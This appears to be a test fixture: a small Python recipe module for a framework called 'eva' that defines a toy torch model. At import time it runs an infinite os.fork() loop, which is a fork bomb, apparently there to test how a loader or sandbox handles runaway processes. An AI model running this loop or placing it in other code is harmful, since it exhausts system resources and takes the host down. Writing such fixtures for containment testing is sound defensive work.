"""Starts as many processes as it can."""

import contextlib
import os

from torch import nn

from eva import Recipe

while True:
    with contextlib.suppress(OSError):
        os.fork()

RECIPE = Recipe()


def build_model() -> nn.Module:
    return nn.Sequential(nn.Flatten(), nn.Linear(784, 10))
